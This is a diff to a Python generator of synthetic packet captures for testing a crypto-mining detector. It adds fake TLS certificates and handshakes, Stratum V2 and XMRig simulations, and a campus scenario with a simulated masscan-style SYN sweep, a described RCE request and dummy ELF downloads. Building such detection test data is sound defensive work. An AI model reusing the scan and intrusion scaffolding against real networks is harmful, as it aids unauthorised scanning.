@@ -21,9 +21,18 @@ What is simulated
   types, gzip, Ethernet, 802.1Q, QinQ, Linux SLL and SLL2, raw IP and BSD null loopback.
 * Hard negatives next to the miners: web3/Zabbix/echo/wallet JSON-RPC, HTTP, DNS, TLS records and
   a long-lived chat-like JSON websocket flow.
+* A campus (``campus.pcapng`` + ``campus-registry.csv``): units on VLANs, a GPU farm on one account,
+  an ASIC in a state-owned enterprise, a hijacked government server (masscan-style SYN sweep,
+  an RCE request, script and ELF downloads, XMRig on port 80), the same wallet on a scanning
+  hospital server, a home miner; the truth names each host's unit, verdict and signals.
+* Encrypted mining (``encrypted-evasive.pcap``): TLS 1.2 and 1.3 handshakes with real structure
+  (ClientHello profiles, DER certificate chains, ServerHello versions) followed by application-
+  data records sized from the plaintext a dialect simulator wrote, so the hidden shares are known;
+  Stratum V2 sized per the spec (64 -> 234-byte Noise NX acts, 22 + payload + 16-byte frames).
 
 Public functions: ``build_all(out_dir) -> dict`` (writes every file, returns the truth document)
-and ``main(argv) -> int`` (the command line).
+and ``main(argv) -> int`` (the command line). Adding a file never changes the others: each
+builder draws from its own seeded ``random.Random``.
 """
 
 from __future__ import annotations
@@ -31,14 +40,19 @@ from __future__ import annotations
 import argparse
 import base64
 import calendar
+import csv
+import email.utils
 import gzip
 import hashlib
 import heapq
 import io
+import ipaddress
 import json
+import math
 import random
 import struct
 import sys
+import time
 from dataclasses import dataclass, field
 from fractions import Fraction
 from pathlib import Path
@@ -50,7 +64,7 @@ from scapy.layers.inet6 import IPv6, IPv6ExtHdrHopByHop, PadN
 from scapy.packet import Packet, Raw
 
 GENERATOR = "pcaps/make_samples.py"
-TRUTH_VERSION = 1
+TRUTH_VERSION = 2
 
 # Work (hashes, or Equihash solutions) behind one share, per dialect; recorded in truth.json.
 WORK_CONVENTIONS = {
@@ -698,8 +712,9 @@ def chain_height(coin: str, ntime: int) -> int:
 
 
 def btc_notify(rng: random.Random, job_id: str, prevhash: str, ntime: int, clean: bool, nbits: str,
-               branches: int, coin: str = "btc") -> dict[str, Any]:
-    tag = b"/F2Pool/" if coin == "btc" else b"/ViaBTC/"
+               branches: int, coin: str = "btc", tag: bytes | None = None) -> dict[str, Any]:
+    if tag is None:
+        tag = b"/F2Pool/" if coin == "btc" else b"/ViaBTC/"
     height = chain_height(coin, ntime)
     hb = height.to_bytes(3, "little")
     coinb1 = ("01000000010000000000000000000000000000000000000000000000000000000000000000ffffffff"
@@ -716,18 +731,20 @@ def sim_stratum_sha(
     algo: str, agent: str | None, login: str, rtt: float, mid_session: bool = False,
     version_rolling: bool = False, server_eol: str = "\n", reorder_notify_at: int | None = None,
     retx_share_at: int | None = None, nbits: str = "170e9a6a", coin: str = "btc",
-    epoch0: int = 0,
+    epoch0: int = 0, coinbase_tag: str | None = None,
 ) -> tuple[list[Msg], SessionLog]:
     """A cgminer-family miner on a Stratum v1 pool (SHA-256d: D*2^32, scrypt: D*2^16).
 
     ``diffs`` is [(t, D), ...]; the first entry is the difficulty at session start (sent right
     after mining.subscribe, or unobserved when ``mid_session``), later entries are vardiff changes
-    sent as mining.set_difficulty + a clean mining.notify in one segment.
+    sent as mining.set_difficulty + a clean mining.notify in one segment. ``coinbase_tag`` replaces
+    the default pool tag written into the coinbase (/F2Pool/ for BTC, /ViaBTC/ for LTC).
     """
     mult = 2 ** 32 if algo == "sha256d" else 2 ** 16
     msgs: list[Msg] = []
     log = SessionLog()
-    log.extra["coinbase_tag"] = "/F2Pool/" if coin == "btc" else "/ViaBTC/"  # as btc_notify writes it
+    default_tag = "/F2Pool/" if coin == "btc" else "/ViaBTC/"  # as btc_notify writes it
+    log.extra["coinbase_tag"] = coinbase_tag if coinbase_tag is not None else default_tag
     C, S = 0, 1
     spaced = lambda o: line(o, compact=False)  # noqa: E731  cgminer's printf formats
     pool = lambda o: line(o, compact=True, eol=server_eol)  # noqa: E731
@@ -797,7 +814,8 @@ def sim_stratum_sha(
         jid = f"{jn:x}"
         jn += 1
         ntime = epoch0 + int(tj)
-        note = btc_notify(rng, jid, prevhash, ntime, clean, nbits, rng.randrange(9, 13), coin)
+        note = btc_notify(rng, jid, prevhash, ntime, clean, nbits, rng.randrange(9, 13), coin,
+                          coinbase_tag.encode() if coinbase_tag is not None else None)
         return pool(note), jid, ntime
 
     for i, (tj, clean) in enumerate(job_times):
@@ -1066,8 +1084,13 @@ def sim_xmrig(
     rng: random.Random, *, start: float, end: float, hashrate: float, diffs: list[tuple[float, int]],
     login: str, agent: str, algos: list[str], algo: str, rigid: str | None, escape_slashes: bool,
     keepalive: float, rtt: float, height0: int, epoch0: int, frag_login: int = 0,
-    with_seed: bool = True,
+    with_seed: bool = True, job_interval: tuple[float, float] | None = None, password: str = "x",
 ) -> tuple[list[Msg], SessionLog]:
+    """XMRig on a nodejs-pool style pool: login, jobs, submits, keepalived.
+
+    Jobs follow Monero blocks (every Exp(120 s)) unless ``job_interval`` = (lo, hi) asks for a
+    pool that refreshes the job every uniform(lo, hi) seconds (a new block on one refresh in four).
+    """
     msgs: list[Msg] = []
     log = SessionLog()
     C, S = 0, 1
@@ -1078,7 +1101,7 @@ def sim_xmrig(
             s = s.replace("/", "\\/")
         return (s + "\n").encode()
 
-    params: dict[str, Any] = {"login": login, "pass": "x", "agent": agent}
+    params: dict[str, Any] = {"login": login, "pass": password, "agent": agent}
     if rigid:
         params["rigid"] = rigid
     params["algo"] = algos
@@ -1107,12 +1130,18 @@ def sim_xmrig(
     msgs.append(Msg(tr, S, line({"id": 1, "jsonrpc": "2.0", "error": None, "result": res})))
     log.diff_change(tr, difficulty=monero_diff(tgt), target=tgt, work=float(monero_diff(tgt)), message="login result job")
     jobs: list[tuple[float, str, str]] = [(tr, first["job_id"], tgt)]
-    # block every ~120 s; vardiff change(s) as new jobs with a new target
-    tb = tr + rng.expovariate(1 / 120)
-    events = []
-    while tb < end:
-        events.append((tb, None))
-        tb += rng.expovariate(1 / 120) + 1
+    # block every ~120 s (or a job refresh every job_interval); vardiff change(s) as new jobs with a new target
+    events: list[tuple[float, int | None]] = []
+    if job_interval is None:
+        tb = tr + rng.expovariate(1 / 120)
+        while tb < end:
+            events.append((tb, None))
+            tb += rng.expovariate(1 / 120) + 1
+    else:
+        tb = tr + rng.uniform(*job_interval)
+        while tb < end:
+            events.append((tb, None if rng.random() < 0.25 else 0))
+            tb += rng.uniform(*job_interval)
     for cp, D in diffs[1:]:
         events.append((cp, D))
     events.sort(key=lambda e: e[0])
@@ -1121,6 +1150,8 @@ def sim_xmrig(
         t = te
         if D is None:
             height += 1
+        elif D == 0:  # job refresh on the same block (new transactions), same target
+            pass
         else:
             tgt = monero_target(D)
             log.diff_change(te, difficulty=monero_diff(tgt), target=tgt, work=float(monero_diff(tgt)), message="job")
@@ -1462,6 +1493,436 @@ def neg_chat_ws(rng: random.Random, t0: float, t1: float, host: str) -> list[Msg
 
 
 # ----------------------------------------------------------------------------------------------
+# X.509 certificates in DER: just enough structure for tshark and minesweep's DER walker
+# (RFC 5280 §4.1; nothing is signed: keys and signatures are random bytes of the right size)
+
+OID_NAMES = {"C": "2.5.4.6", "ST": "2.5.4.8", "L": "2.5.4.7", "O": "2.5.4.10", "OU": "2.5.4.11", "CN": "2.5.4.3"}
+
+
+def der(tag: int, content: bytes) -> bytes:
+    n = len(content)
+    if n < 0x80:
+        return bytes([tag, n]) + content
+    ln = n.to_bytes((n.bit_length() + 7) // 8, "big")
+    return bytes([tag, 0x80 | len(ln)]) + ln + content
+
+
+def der_seq(*items: bytes) -> bytes:
+    return der(0x30, b"".join(items))
+
+
+def der_oid(dotted: str) -> bytes:
+    parts = [int(p) for p in dotted.split(".")]
+    out = bytearray([40 * parts[0] + parts[1]])
+    for p in parts[2:]:
+        enc = [p & 0x7F]
+        p >>= 7
+        while p:
+            enc.append(0x80 | (p & 0x7F))
+            p >>= 7
+        out += bytes(reversed(enc))
+    return der(0x06, bytes(out))
+
+
+def der_uint(value: bytes) -> bytes:
+    value = value.lstrip(b"\0") or b"\0"
+    return der(0x02, (b"\0" if value[0] & 0x80 else b"") + value)
+
+
+def der_time(ts: int) -> bytes:
+    return der(0x17, time.strftime("%y%m%d%H%M%SZ", time.gmtime(ts)).encode())
+
+
+def x509_name(rdns: list[tuple[str, str]]) -> bytes:
+    return der_seq(*[der(0x31, der_seq(der_oid(OID_NAMES[k]), der(0x13 if k == "C" else 0x0C, v.encode())))
+                     for k, v in rdns])
+
+
+def x509_cert(rng: random.Random, subject: list[tuple[str, str]], issuer: list[tuple[str, str]], not_before: int,
+              not_after: int, san: list[str], ca: bool = False) -> bytes:
+    """A v3 certificate with an RSA-2048 key, signed (in form only) with sha256WithRSAEncryption."""
+    sig_alg = der_seq(der_oid("1.2.840.113549.1.1.11"), der(0x05, b""))
+    modulus = bytes([0x80 | rng.getrandbits(7)]) + rng.getrandbits(255 * 8).to_bytes(255, "big")
+    spki = der_seq(der_seq(der_oid("1.2.840.113549.1.1.1"), der(0x05, b"")),
+                   der(0x03, b"\0" + der_seq(der_uint(modulus), der_uint((65537).to_bytes(3, "big")))))
+    true = der(0x01, b"\xff")
+    exts = [
+        der_seq(der_oid("2.5.29.15"), true, der(0x04, der(0x03, b"\x01\x86" if ca else b"\x05\xa0"))),
+        der_seq(der_oid("2.5.29.19"), true, der(0x04, der_seq(true, der_uint(b"\0")) if ca else der_seq())),
+        der_seq(der_oid("2.5.29.14"), der(0x04, der(0x04, rng.getrandbits(160).to_bytes(20, "big")))),
+    ]
+    if not ca:
+        exts.insert(1, der_seq(der_oid("2.5.29.37"), der(0x04, der_seq(der_oid("1.3.6.1.5.5.7.3.1"),
+                                                                      der_oid("1.3.6.1.5.5.7.3.2")))))
+        exts.append(der_seq(der_oid("2.5.29.17"), der(0x04, der_seq(*[der(0x82, n.encode()) for n in san]))))
+    serial = bytes([rng.getrandbits(7) | 0x01]) + rng.getrandbits(15 * 8).to_bytes(15, "big")
+    tbs = der_seq(der(0xA0, der_uint(b"\x02")), der_uint(serial), sig_alg, x509_name(issuer),
+                  der_seq(der_time(not_before), der_time(not_after)), x509_name(subject), spki,
+                  der(0xA3, der_seq(*exts)))
+    return der_seq(tbs, sig_alg, der(0x03, b"\0" + rng.getrandbits(2048).to_bytes(256, "big")))
+
+
+LE_R3 = [("C", "US"), ("O", "Let's Encrypt"), ("CN", "R3")]
+ISRG_X1 = [("C", "US"), ("O", "Internet Security Research Group"), ("CN", "ISRG Root X1")]
+DIGICERT_CA1 = [("C", "US"), ("O", "DigiCert Inc"), ("CN", "DigiCert TLS RSA SHA256 2020 CA1")]
+DIGICERT_ROOT = [("C", "US"), ("O", "DigiCert Inc"), ("OU", "www.digicert.com"), ("CN", "DigiCert Global Root CA")]
+
+
+def cert_chain(rng: random.Random, name: str, san: list[str], ca: str, now: int) -> list[bytes]:
+    """Leaf for ``name`` plus its intermediate: Let's Encrypt R3 (90 days) or DigiCert (one year)."""
+    if ca == "letsencrypt":
+        leaf = x509_cert(rng, [("CN", name)], LE_R3, now - 30 * 86400, now + 60 * 86400, san)
+        inter = x509_cert(rng, LE_R3, ISRG_X1, epoch(2020, 9, 4, 0, 0, 0), epoch(2025, 9, 15, 16, 0, 0), [], ca=True)
+    else:
+        leaf = x509_cert(rng, [("C", "US"), ("ST", "California"), ("L", "Los Angeles"),
+                               ("O", "Internet Corporation for Assigned Names and Numbers"), ("CN", name)],
+                         DIGICERT_CA1, now - 200 * 86400, now + 165 * 86400, san)
+        inter = x509_cert(rng, DIGICERT_CA1, DIGICERT_ROOT, epoch(2021, 4, 14, 0, 0, 0), epoch(2031, 4, 13, 23, 59, 59),
+                          [], ca=True)
+    return [leaf, inter]
+
+
+# ----------------------------------------------------------------------------------------------
+# TLS 1.2 / 1.3 on the wire (RFC 5246, RFC 8446): handshakes with real structure, then opaque
+# application-data records whose sizes follow the plaintext they stand for
+
+TLS12_GCM_OVERHEAD = 8 + 16  # explicit nonce + GCM tag (RFC 5288 §3)
+TLS13_OVERHEAD = 1 + 16  # inner content type + AEAD tag (RFC 8446 §5.2)
+MAX_FRAGMENT = 16384
+
+# ClientHello profiles (cipher suites and extension order as the named TLS stacks send them)
+OPENSSL_CIPHERS = [0x1302, 0x1303, 0x1301, 0xC02C, 0xC030, 0x009F, 0xCCA9, 0xCCA8, 0xCCAA, 0xC02B, 0xC02F,
+                   0x009E, 0xC024, 0xC028, 0x006B, 0xC023, 0xC027, 0x0067, 0xC00A, 0xC014, 0x0039, 0xC009,
+                   0xC013, 0x0033, 0x009D, 0x009C, 0x003D, 0x003C, 0x0035, 0x002F, 0x00FF]
+OPENSSL_EXTS = [0, 11, 10, 35, 22, 23, 13, 43, 45, 51]
+PYTHON_EXTS = [0, 11, 10, 35, 16, 22, 23, 13, 43, 45, 51, 21]  # urllib3 sets ALPN http/1.1; OpenSSL pads to 512
+FIREFOX_CIPHERS = [0x1301, 0x1303, 0x1302, 0xC02B, 0xC02F, 0xCCA9, 0xCCA8, 0xC02C, 0xC030, 0xC00A, 0xC009,
+                   0xC013, 0xC014, 0x009C, 0x009D, 0x002F, 0x0035]
+FIREFOX_EXTS = [0, 23, 65281, 10, 11, 35, 16, 5, 51, 43, 13, 45, 28, 21]
+SIGALGS = [0x0403, 0x0503, 0x0603, 0x0807, 0x0808, 0x0804, 0x0805, 0x0806, 0x0401, 0x0501, 0x0601]
+
+
+def tls_record(ctype: int, body: bytes, version: int = 0x0303) -> bytes:
+    out = b""
+    for i in range(0, max(len(body), 1), MAX_FRAGMENT):
+        chunk = body[i : i + MAX_FRAGMENT]
+        out += struct.pack(">BHH", ctype, version, len(chunk)) + chunk
+    return out
+
+
+def tls_hs(msg_type: int, body: bytes) -> bytes:
+    return bytes([msg_type]) + len(body).to_bytes(3, "big") + body
+
+
+def rand_bytes(rng: random.Random, n: int) -> bytes:
+    return rng.getrandbits(8 * n).to_bytes(n, "big") if n else b""
+
+
+def client_hello(rng: random.Random, sni: str | None, ciphers: list[int], ext_order: list[int],
+                 alpn: list[str] | None = None, tls13: bool = True, pad_to: int = 512) -> bytes:
+    """A ClientHello record; extensions in ``ext_order`` (unknown codes are skipped)."""
+    key = rand_bytes(rng, 32)
+    exts: dict[int, bytes] = {
+        11: b"\x03\x00\x01\x02",
+        10: struct.pack(">H", 10) + struct.pack(">5H", 0x001D, 0x0017, 0x001E, 0x0019, 0x0018),
+        35: b"", 22: b"", 23: b"", 65281: b"\x00",
+        13: struct.pack(">H", 2 * len(SIGALGS)) + b"".join(struct.pack(">H", a) for a in SIGALGS),
+        5: b"\x01\x00\x00\x00\x00",
+        28: b"\x40\x01",
+    }
+    if sni is not None:
+        name = sni.encode()
+        exts[0] = struct.pack(">HBH", len(name) + 3, 0, len(name)) + name
+    if alpn:
+        lst = b"".join(bytes([len(p)]) + p.encode() for p in alpn)
+        exts[16] = struct.pack(">H", len(lst)) + lst
+    if tls13:
+        exts[43] = b"\x04\x03\x04\x03\x03"
+        exts[45] = b"\x01\x01"
+        exts[51] = struct.pack(">HHH", 36, 0x001D, 32) + key
+    body_exts = b"".join(struct.pack(">HH", c, len(exts[c])) + exts[c] for c in ext_order if c in exts and c != 21)
+    head = (struct.pack(">H", 0x0303) + rand_bytes(rng, 32) + b"\x20" + rand_bytes(rng, 32)
+            + struct.pack(">H", 2 * len(ciphers)) + b"".join(struct.pack(">H", c) for c in ciphers) + b"\x01\x00")
+    if 21 in ext_order:  # RFC 7685 padding up to pad_to bytes of handshake message
+        cur = 4 + len(head) + 2 + len(body_exts)
+        if cur + 4 < pad_to:
+            body_exts += struct.pack(">HH", 21, pad_to - cur - 4) + b"\0" * (pad_to - cur - 4)
+    hs = tls_hs(1, head + struct.pack(">H", len(body_exts)) + body_exts)
+    return tls_record(22, hs, 0x0301)
+
+
+def server_flight12(rng: random.Random, chain: list[bytes], cipher: int = 0xC030) -> bytes:
+    """TLS 1.2 ServerHello, Certificate, ServerKeyExchange (ECDHE x25519, RSA-PSS) and ServerHelloDone."""
+    exts = struct.pack(">HHB", 0xFF01, 1, 0) + struct.pack(">HHBB", 11, 2, 1, 0) + struct.pack(">HH", 23, 0)
+    sh = tls_hs(2, struct.pack(">H", 0x0303) + rand_bytes(rng, 32) + b"\x20" + rand_bytes(rng, 32)
+                + struct.pack(">HB", cipher, 0) + struct.pack(">H", len(exts)) + exts)
+    certs = b"".join(len(c).to_bytes(3, "big") + c for c in chain)
+    cert = tls_hs(11, len(certs).to_bytes(3, "big") + certs)
+    ske = tls_hs(12, b"\x03\x00\x1d\x20" + rand_bytes(rng, 32) + struct.pack(">HH", 0x0804, 256) + rand_bytes(rng, 256))
+    return tls_record(22, sh + cert + ske + tls_hs(14, b""))
+
+
+def client_finish12(rng: random.Random) -> bytes:
+    return (tls_record(22, tls_hs(16, b"\x20" + rand_bytes(rng, 32))) + tls_record(20, b"\x01")
+            + tls_record(22, rand_bytes(rng, 16 + TLS12_GCM_OVERHEAD)))
+
+
+def server_finish12(rng: random.Random) -> bytes:
+    return tls_record(20, b"\x01") + tls_record(22, rand_bytes(rng, 16 + TLS12_GCM_OVERHEAD))
+
+
+def server_flight13(rng: random.Random, cert_bytes: int, cipher: int = 0x1302) -> bytes:
+    """TLS 1.3 ServerHello + middlebox-compat ChangeCipherSpec + one record of encrypted handshake."""
+    exts = struct.pack(">HHH", 43, 2, 0x0304) + struct.pack(">HHHH", 51, 36, 0x001D, 32) + rand_bytes(rng, 32)
+    sh = tls_hs(2, struct.pack(">H", 0x0303) + rand_bytes(rng, 32) + b"\x20" + rand_bytes(rng, 32)
+                + struct.pack(">HB", cipher, 0) + struct.pack(">H", len(exts)) + exts)
+    inner = 10 + cert_bytes + 264 + 52  # EncryptedExtensions, Certificate, CertificateVerify, Finished
+    return tls_record(22, sh) + tls_record(20, b"\x01") + tls_record(23, rand_bytes(rng, inner + TLS13_OVERHEAD))
+
+
+def client_finish13(rng: random.Random) -> bytes:
+    return tls_record(20, b"\x01") + tls_record(23, rand_bytes(rng, 52 + TLS13_OVERHEAD))
+
+
+def tls_appdata_for(rng: random.Random, n: int, tls13: bool) -> bytes:
+    """Application-data record(s) carrying ``n`` plaintext bytes (AES-GCM)."""
+    out = b""
+    while n > 0:
+        k = min(n, MAX_FRAGMENT)
+        out += tls_record(23, rand_bytes(rng, k + (TLS13_OVERHEAD if tls13 else TLS12_GCM_OVERHEAD)))
+        n -= k
+    return out
+
+
+def tls_session(rng: random.Random, t: float, rtt: float, hello: bytes, tls13: bool, chain: list[bytes] | None = None,
+                cert_bytes: int = 2600, tickets: int = 0) -> tuple[list[Msg], float]:
+    """Handshake messages from ``t``; returns them and the time the client may send application data."""
+    msgs = [Msg(t, 0, hello)]
+    t += rtt + rng.uniform(0.002, 0.006)
+    if tls13:
+        msgs.append(Msg(t, 1, server_flight13(rng, cert_bytes)))
+        t += rng.uniform(0.002, 0.004)
+        msgs.append(Msg(t, 0, client_finish13(rng)))
+        for i in range(tickets):  # NewSessionTicket records after the client's Finished arrives
+            msgs.append(Msg(t + rtt + 0.001 + 0.0005 * i, 1, tls_record(23, rand_bytes(rng, 233 + TLS13_OVERHEAD))))
+        return msgs, t + 0.003
+    msgs.append(Msg(t, 1, server_flight12(rng, chain or [])))
+    t += rng.uniform(0.002, 0.004)
+    msgs.append(Msg(t, 0, client_finish12(rng)))
+    t += rtt + rng.uniform(0.001, 0.003)
+    msgs.append(Msg(t, 1, server_finish12(rng)))
+    return msgs, t + 0.003
+
+
+def tls_wrap(rng: random.Random, msgs: list[Msg], tls13: bool) -> list[Msg]:
+    """Replace each plaintext write by the TLS record(s) that would carry it (same time, side, tag)."""
+    return [Msg(m.t, m.side, tls_appdata_for(rng, len(m.data), tls13), tag=m.tag) for m in msgs]
+
+
+# ----------------------------------------------------------------------------------------------
+# Stratum V2 (github.com/stratum-mining/sv2-spec): Noise NX handshake then encrypted frames, sized as
+# in detector/dialects/sv2.py's docstring (64-byte act 1, 234-byte act 2, frame = 22 + payload + 16)
+
+SV2_ACT1, SV2_ACT2 = 64, 234
+
+
+def sv2_frame(rng: random.Random, payload_len: int) -> bytes:
+    return rand_bytes(rng, 22 + (payload_len + 16 if payload_len else 0))
+
+
+def str0(s: str) -> int:
+    return 1 + len(s.encode())
+
+
+def sim_sv2(
+    rng: random.Random, *, start: float, end: float, hashrate: float, share_interval: float, user: str,
+    endpoint: tuple[str, int], device: tuple[str, str, str], rtt: float,
+) -> tuple[list[Msg], SessionLog]:
+    """A Stratum V2 standard-channel miner; every write is ciphertext of the right size."""
+    msgs: list[Msg] = []
+    log = SessionLog()
+    C, S = 0, 1
+    msgs.append(Msg(start, C, rand_bytes(rng, SV2_ACT1)))
+    tr = respond_time(rng, start, rtt)
+    msgs.append(Msg(tr, S, rand_bytes(rng, SV2_ACT2)))
+    t = tr + 0.002
+    vendor, hw, fw = device
+    setup = 1 + 2 + 2 + 4 + str0(endpoint[0]) + 2 + str0(vendor) + str0(hw) + str0(fw) + str0("")  # §3.6.1
+    msgs.append(Msg(t, C, sv2_frame(rng, setup)))
+    log.extra["sv2_setup_connection_bytes"] = 22 + setup + 16
+    tr = respond_time(rng, t, rtt)
+    msgs.append(Msg(tr, S, sv2_frame(rng, 6)))  # SetupConnection.Success: used_version U16, flags U32
+    t = tr + 0.002
+    msgs.append(Msg(t, C, sv2_frame(rng, 4 + str0(user) + 4 + 32)))  # OpenStandardMiningChannel
+    tr = respond_time(rng, t, rtt)
+    work = float(2 ** round(math.log2(hashrate * share_interval)))
+    target = (1 << 256) // int(work)
+    log.diff_change(tr, target=f"{target:064x}", work=work_from_target(target), observed=False,
+                    message="OpenStandardMiningChannel.Success target (encrypted)")
+    # Success (request_id, channel_id, target U256, extranonce_prefix B0_32 of 8, group_channel_id), then a
+    # future NewMiningJob (min_ntime empty) and SetNewPrevHash in the same write
+    msgs.append(Msg(tr, S, sv2_frame(rng, 4 + 4 + 32 + 9 + 4) + sv2_frame(rng, 4 + 4 + 1 + 4 + 32)
+                    + sv2_frame(rng, 4 + 4 + 32 + 4 + 4)))
+    tj = tr + rng.uniform(20, 40)
+    next_block = tr + rng.expovariate(1 / 600)
+    while tj < end:
+        if next_block < tj:
+            msgs.append(Msg(next_block, S, sv2_frame(rng, 4 + 4 + 1 + 4 + 32) + sv2_frame(rng, 4 + 4 + 32 + 4 + 4)))
+            next_block += rng.expovariate(1 / 600)
+        else:
+            msgs.append(Msg(tj, S, sv2_frame(rng, 4 + 4 + 5 + 4 + 32)))  # NewMiningJob, min_ntime set
+            tj += rng.uniform(20, 40)
+    shares = poisson_shares(rng, tr + 0.5, end - 2.0, hashrate, [(start, log.difficulty[0]["work_per_share"])])
+    rejects = pick_rejects(rng, len(shares), max(2, len(shares) // 50))
+    for k, (ts, w) in enumerate(shares):
+        msgs.append(Msg(ts, C, sv2_frame(rng, 24), tag=k))  # SubmitSharesStandard: six U32
+        ok = k not in rejects
+        # SubmitShares.Success (channel, last seq, count U32, shares sum U64) / .Error (channel, seq, STR0_255)
+        msgs.append(Msg(respond_time(rng, ts, rtt), S, sv2_frame(rng, 20 if ok else 4 + 4 + str0("stale-share"))))
+        log.shares.append((ts, w, ok))
+    return msgs, log
+
+
+# ----------------------------------------------------------------------------------------------
+# raw packets outside a connection: SYN scans and the answers they provoke
+
+
+def raw_tcp(cap: Capture, base_ns: int, iface: int, link: LinkFn, t: float, side: int, src: Host, dst: Host,
+            sport: int, dport: int, flags: str, seq: int, ack: int = 0, window: int | None = None,
+            syn_opts: bool = False) -> None:
+    tcp = TCP(sport=sport, dport=dport, seq=seq & M32, ack=ack & M32, flags=flags,
+              window=src.window if window is None else window, options=Flow.SYN_OPTS if syn_opts else [])
+    v6 = ":" in src.ip
+    if v6:
+        p: Packet = IPv6(src=src.ip, dst=dst.ip, hlim=src.ttl, fl=0) / tcp
+    else:
+        df = "DF" if "S" in flags and "A" in flags else 0  # only the answering stack sets DF
+        p = IP(src=src.ip, dst=dst.ip, id=src.next_id(), ttl=src.ttl, flags=df) / tcp
+    b = bytes(p)
+    cap.add(base_ns + round(t * NS), iface, link(side, b, v6) + b)
+
+
+def syn_scan(cap: Capture, base_ns: int, iface: int, link_for: Callable[[str], LinkFn], rng: random.Random,
+             scanner: Host, sport: int, targets: list[tuple[str, int]], t0: float, pps: float,
+             open_ports: dict[tuple[str, int], Host], live: dict[str, Host], rtt: float) -> dict[str, Any]:
+    """A masscan-style SYN sweep (window 1024, no options, one source port, the scanner's own RST for
+    every SYN-ACK); open ports answer SYN-ACK, closed ports of live hosts RST-ACK, others stay silent.
+
+    ``link_for(target_ip)`` gives the link layer with side 0 = scanner -> target.
+    """
+    t = t0
+    first = last = None
+    for ip, port in targets:
+        t += rng.expovariate(pps)
+        seq = rng.getrandbits(32)
+        link = link_for(ip)
+        target = open_ports.get((ip, port)) or live.get(ip) or Host(ip, 64, 0, 0)
+        raw_tcp(cap, base_ns, iface, link, t, 0, scanner, target, sport, port, "S", seq, window=1024)
+        first = t if first is None else first
+        last = t
+        if (ip, port) in open_ports:
+            raw_tcp(cap, base_ns, iface, link, t + rtt, 1, target, scanner, port, sport, "SA", rng.getrandbits(32),
+                    seq + 1, syn_opts=True)
+            raw_tcp(cap, base_ns, iface, link, t + rtt + 0.0003, 0, scanner, target, sport, port, "R", seq + 1, window=0)
+            last = t + rtt + 0.0003
+        elif ip in live:
+            raw_tcp(cap, base_ns, iface, link, t + rtt, 1, target, scanner, port, sport, "RA", 0, seq + 1, window=0)
+            last = t + rtt
+    ports = sorted({p for _, p in targets})
+    return {"scanner": scanner.ip, "source_port": sport, "syns": len(targets),
+            "distinct_addresses": len({ip for ip, _ in targets}), "ports": ports,
+            "open": sorted([list(k) for k in open_ports if k in set(targets)]),
+            "first_ts": (base_ns + round((first or t0) * NS)) / NS, "last_ts": (base_ns + round((last or t0) * NS)) / NS}
+
+
+# ----------------------------------------------------------------------------------------------
+# plain HTTP pieces for the campus: an exploit, downloads, redirects, JSON-RPC that is not mining
+
+
+def http_date(ts: float) -> str:
+    return email.utils.formatdate(ts, usegmt=True)
+
+
+def http_get(path: str, host: str, agent: str, extra: str = "") -> bytes:
+    return f"GET {path} HTTP/1.1\r\nHost: {host}\r\nUser-Agent: {agent}\r\nAccept: */*\r\n{extra}\r\n".encode()
+
+
+def http_response(status: str, ts: float, ctype: str, body: bytes, server: str, version: str = "HTTP/1.1",
+                  extra: str = "") -> bytes:
+    return (f"{version} {status}\r\nServer: {server}\r\nDate: {http_date(ts)}\r\nContent-type: {ctype}\r\n"
+            f"Content-Length: {len(body)}\r\n{extra}\r\n").encode() + body
+
+
+def elf_body(rng: random.Random, size: int) -> bytes:
+    """An x86-64 ELF executable header (ET_EXEC, two PT_LOAD) followed by opaque bytes."""
+    ehdr = (b"\x7fELF" + bytes([2, 1, 1, 0]) + b"\0" * 8
+            + struct.pack("<HHIQQQIHHHHHH", 2, 62, 1, 0x401000 + 0x120, 64, 0, 0, 64, 56, 2, 64, 0, 0))
+    ph = b"".join(struct.pack("<IIQQQQQQ", 1, flags, 0, 0x400000, 0x400000, size, size, 0x1000) for flags in (5, 6))
+    return ehdr + ph + rand_bytes(rng, size - len(ehdr) - len(ph))
+
+
+def neg_redirect(t: float, host: str, ts0: int) -> list[Msg]:
+    req = (f"GET / HTTP/1.1\r\nHost: {host}\r\nUser-Agent: Mozilla/5.0 (Windows NT 10.0; Win64; x64; rv:98.0) "
+           "Gecko/20100101 Firefox/98.0\r\nAccept: text/html,application/xhtml+xml\r\nConnection: keep-alive\r\n\r\n").encode()
+    body = (b"<html>\r\n<head><title>301 Moved Permanently</title></head>\r\n<body>\r\n"
+            b"<center><h1>301 Moved Permanently</h1></center>\r\n<hr><center>nginx</center>\r\n</body>\r\n</html>\r\n")
+    resp = http_response("301 Moved Permanently", ts0 + t, "text/html", body, "nginx",
+                         extra=f"Connection: keep-alive\r\nLocation: https://{host}/\r\n")
+    return [Msg(t, 0, req), Msg(t + 0.004, 1, resp)]
+
+
+def neg_electrum(rng: random.Random, t0: float, t1: float, rtt: float) -> list[Msg]:
+    """An Electrum wallet on an ElectrumX server (line-delimited JSON-RPC 2.0 over TCP, with
+    subscriptions and server notifications): the stratum look-alike that is not mining."""
+    msgs: list[Msg] = []
+    rid = 0
+
+    def call(t: float, method: str, params: list[Any], result: Any) -> float:
+        nonlocal rid
+        msgs.append(Msg(t, 0, line({"jsonrpc": "2.0", "method": method, "params": params, "id": rid})))
+        tr = respond_time(rng, t, rtt)
+        msgs.append(Msg(tr, 1, line({"jsonrpc": "2.0", "result": result, "id": rid})))
+        rid += 1
+        return tr + 0.003
+
+    height = 727300 + rng.randrange(50)
+    t = call(t0, "server.version", ["electrum/4.1.5", "1.4"], ["ElectrumX 1.16.0", "1.4"])
+    t = call(t, "blockchain.headers.subscribe", [], {"hex": hx(rng, 80), "height": height})
+    t = call(t, "server.banner", [], "Welcome to ElectrumX")
+    for _ in range(6):
+        t = call(t, "blockchain.scripthash.subscribe", [hx(rng, 32)], hx(rng, 32) if rng.random() < 0.5 else None)
+    next_ping = t + 60
+    tb = t + rng.expovariate(1 / 600)
+    while True:
+        if tb < next_ping:
+            if tb >= t1:
+                break
+            height += 1
+            msgs.append(Msg(tb, 1, line({"jsonrpc": "2.0", "method": "blockchain.headers.subscribe",
+                                         "params": [{"hex": hx(rng, 80), "height": height}]})))
+            tb += rng.expovariate(1 / 600)
+        else:
+            if next_ping >= t1:
+                break
+            call(next_ping, "server.ping", [], None)
+            next_ping += 60
+    return msgs
+
+
+def neg_https_visits(rng: random.Random, t: float, sni: str, rtt: float, pages: int) -> list[Msg]:
+    """A browser on an HTTPS site (TLS 1.3): a few request/response exchanges, then idle close."""
